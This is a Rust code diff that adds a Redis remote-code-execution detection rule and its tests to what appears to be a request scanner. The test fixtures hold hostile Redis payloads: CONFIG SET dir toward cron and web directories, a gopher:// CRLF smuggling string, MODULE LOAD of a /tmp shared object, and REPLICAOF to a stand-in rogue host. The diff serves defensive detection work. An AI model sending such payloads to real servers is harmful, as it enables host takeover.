@@ -397,6 +397,14 @@ impl Rce {
                 RCE_RUBY,
                 r#"\b(?:process\s*\.\s*spawn|pty\s*\.\s*spawn|open3\s*\.\s*(?:popen[23e]*|capture[23e]*|pipeline[a-z_]*)|kernel\s*\.\s*(?:spawn|open|`))\s*[('\x22]|(?:^|[\s;(=,&|{])%x(?:\{[^}\s]{0,200}\s[^}]{0,200}\}|[(\[<|!][^)\]>|!]{1,200}[)\]>|!])|\b(?:send|public_send|__send__)\s*\(?\s*[:'\x22](?:system|exec|spawn|eval|instance_eval|class_eval|syscall)['\x22]?\s*[,)]"#,
             ),
+            // Redis commands that turn the server against its host, as a line of their own
+            // (smuggled to Redis through `gopher://` or a CRLF) or as the segments of a path
+            // (Webdis, Redis over HTTP): `CONFIG SET dir /var/spool/cron`, `SLAVEOF <ip>` to
+            // a rogue master, `MODULE LOAD /tmp/x.so`.
+            (
+                RCE_REDIS,
+                r"(?:^|[\r\n/])\s*(?:config\s*[\s/]\s*set\s*[\s/]\s*(?:dir|dbfilename)\b|(?:slaveof|replicaof)\s*[\s/]\s*[0-9a-z]+[.:]|module\s*[\s/]\s*load\s*[\s/])",
+            ),
             // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`), and a
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
             (
@@ -1523,6 +1531,40 @@ mod tests {
             hits(Kind::Value, "query:q", "^;/???/?c?t /???/p??s??;$", 1)
                 .contains(&RCE_OBFUSCATED_COMMAND)
         );
+    }
+
+    #[test]
+    fn redis_commands_that_write_files_or_load_code() {
+        for (kind, label, text) in [
+            (
+                Kind::Path,
+                "path",
+                "/CONFIG/SET/dir/%2Fvar%2Fspool%2Fcron%2Fcrontabs",
+            ),
+            (Kind::Path, "path", "/CONFIG/SET/dbfilename/root"),
+            (Kind::Path, "path", "/SLAVEOF/203.0.113.50/21000"),
+            (Kind::Path, "path", "/MODULE/LOAD/%2Ftmp%2Fexp.so"),
+            (
+                Kind::Value,
+                "query:url",
+                "gopher://127.0.0.1:6379/_x\r\nCONFIG SET dir /var/www\r\n",
+            ),
+            (Kind::Value, "form:cmd", "REPLICAOF evil.example 6379"),
+        ] {
+            assert!(hits(kind, label, text, 1).contains(&RCE_REDIS), "{text}");
+        }
+        for (kind, label, text) in [
+            (Kind::Path, "path", "/api/config/settings/dir"),
+            (Kind::Value, "query:q", "run SLAVEOF NO ONE to promote it"),
+            (
+                Kind::Value,
+                "query:q",
+                "how does config set dir work in redis",
+            ),
+            (Kind::Path, "path", "/docs/module/loader"),
+        ] {
+            assert!(!hits(kind, label, text, 1).contains(&RCE_REDIS), "{text}");
+        }
     }
 
     #[test]
